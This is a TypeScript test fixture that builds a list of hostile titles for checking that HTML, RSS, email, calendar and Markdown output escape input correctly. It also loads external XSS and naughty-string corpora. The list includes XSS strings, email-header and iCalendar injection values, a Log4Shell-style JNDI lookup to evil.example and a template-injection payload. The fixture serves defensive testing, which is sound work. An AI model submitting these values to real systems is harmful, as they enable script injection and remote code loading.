import { existsSync, readFileSync } from 'node:fs'

/** Titles that try to be more than titles; each format has its own way to be fooled. */
const OWN = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</title></item></channel></rss>',
  ']]><x/>',
  '<![CDATA[<b>]]>',
  '<!--',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#0;&nbsp;&bogus;',
  'Hi\r\nBcc: eve@example.com\r\n\r\nbody',
  'Sale\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:other',
  'a\\nb\\;c\\,d\\',
  'semi;colon,comma:colon"quote"',
  'https://evil.example/ @evil /start #sale evil.example',
  '<a href="https://evil.example">free</a>',
  '<b><i>unclosed',
  '\u202egnp.exe',
  '\u0000\u0007\u001b[31m',
  '\ud800 half a pair',
  '\ufffe\uffff',
  '\u2028line\u2029paragraph',
  '',
  ' ',
  '𝕏'.repeat(400),
  '日本語のとても長い題名'.repeat(30),
  'é'.repeat(200),
  '🏳️‍🌈👨‍👩‍👧‍👦'.repeat(20),
  '$\u007bjndi:ldap://evil.example/a}',
  '{{constructor.constructor("x")()}}',
  '*_`[x](http://evil.example)`_*',
] as const

const PAYLOADS = new URL('../../../shared/corpora/html/dompurify-payloads.json', import.meta.url)
const NAUGHTY = new URL('../../../shared/corpora/naughty-strings/blns.json', import.meta.url)

/** Titles of our own, and where collections lie beside the project, all of theirs. */
export function hostileTitles(): readonly string[] {
  const payloads = existsSync(PAYLOADS)
    ? (JSON.parse(readFileSync(PAYLOADS, 'utf8')) as { readonly payload: string }[])
    : []
  const naughty = existsSync(NAUGHTY)
    ? (JSON.parse(readFileSync(NAUGHTY, 'utf8')) as readonly string[])
    : []
  return [...OWN, ...payloads.map(({ payload }) => payload), ...naughty]
}
